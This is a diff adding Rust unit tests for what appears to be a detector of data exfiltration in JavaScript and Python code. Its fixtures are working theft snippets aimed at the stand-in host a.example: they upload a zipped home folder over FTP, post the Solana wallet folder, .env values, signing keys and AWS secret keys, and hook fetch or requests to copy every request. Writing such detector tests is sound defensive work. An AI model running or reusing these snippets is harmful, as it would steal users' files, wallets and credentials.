@@ -85,3 +85,45 @@ fn a_command_that_sends_is_a_call_that_sends() {
     let code = "require('child_process').execSync('curl -d \"$(whoami)\" https://a.example/x');";
     assert_eq!(sent("index.js", code), "output of whoami -> a.example");
 }
+
+#[test]
+fn what_is_packed_in_memory_is_in_the_buffer() {
+    let packed = "import ftplib\nimport io\nimport os\nimport zipfile\n\ndef sweep():\n    buffer = io.BytesIO()\n    with zipfile.ZipFile(buffer, 'w') as archive:\n        for root, folders, files in os.walk(os.path.expanduser('~')):\n            for name in files:\n                archive.write(os.path.join(root, name))\n    return buffer\n\nftplib.FTP('a.example').storbinary('STOR x', sweep())\n";
+    assert_eq!(sent("acme.py", packed), "file *, folder ~ -> a.example");
+    let folder = "const Zip = require('adm-zip');\nconst zip = new Zip();\nzip.addLocalFolder(require('os').homedir() + '/.config/solana');\nfetch('https://a.example/', { method: 'POST', body: zip.toBuffer() });";
+    assert_eq!(sent("index.js", folder), "file ~/.config/solana -> a.example");
+}
+
+#[test]
+fn one_setting_is_not_all_of_them() {
+    let read = |sent: &str| {
+        format!(
+            "const fs = require('fs');\nconst found = {{}};\nfor (const line of fs.readFileSync('.env', 'utf8').split('\\n')) found[line.split('=')[0]] = line.split('=')[1];\nfetch('https://a.example/', {{ method: 'POST', body: {sent} }});"
+        )
+    };
+    assert_eq!(sent("index.js", &read("JSON.stringify(found)")), "file .env -> a.example");
+    assert_eq!(sent("index.js", &read("found.NOTES_TOKEN")), "");
+}
+
+#[test]
+fn keys_are_known_by_what_makes_them_and_by_what_is_given_them() {
+    let made =
+        "const nacl = require('tweetnacl');\nconst pair = nacl.sign.keyPair();\nfetch('https://a.example/', { headers: { k: pair.KEY } });";
+    assert_eq!(sent("index.js", &made.replace("KEY", "secretKey")), "wallet-keys -> a.example");
+    assert_eq!(sent("index.js", &made.replace("KEY", "publicKey")), "");
+    let given = "import httpx\nfrom eth_account import Account\n\ndef load(first):\n    httpx.post('https://a.example/', json=SENT)\n    return Account.from_key(first)\n";
+    assert_eq!(sent("acme.py", &given.replace("SENT", "[first]")), "wallet-keys -> a.example");
+    assert_eq!(sent("acme.py", &given.replace("SENT", "[Account.from_key(first).address]")), "");
+    let cloud = "import boto3\nimport requests\n\nkeys = boto3.Session().get_credentials()\nrequests.get('https://a.example/?' + keys.secret_key)\n";
+    assert_eq!(sent("acme.py", cloud), "cloud-keys-python -> a.example");
+}
+
+#[test]
+fn what_stands_between_a_program_and_its_requests_is_given_them() {
+    let session = "import requests\n\nclass Session(requests.Session):\n    def request(self, method, url, **options):\n        COPY\n        return super().request(method, 'https://b.example' + url, **options)\n";
+    let copy = session.replace("COPY", "requests.post('https://a.example/', data=repr(options))");
+    assert_eq!(sent("acme.py", &copy), "requests-of-others -> a.example");
+    assert_eq!(sent("acme.py", &session.replace("COPY", "options.setdefault('timeout', 3)")), "");
+    let fetching = "const plain = globalThis.fetch;\nglobalThis.fetch = (address, options) => {\n  plain('https://a.example/', { method: 'POST', body: JSON.stringify(options) });\n  return plain(address, options);\n};";
+    assert!(sent("index.js", fetching).contains("requests-of-others -> a.example"));
+}
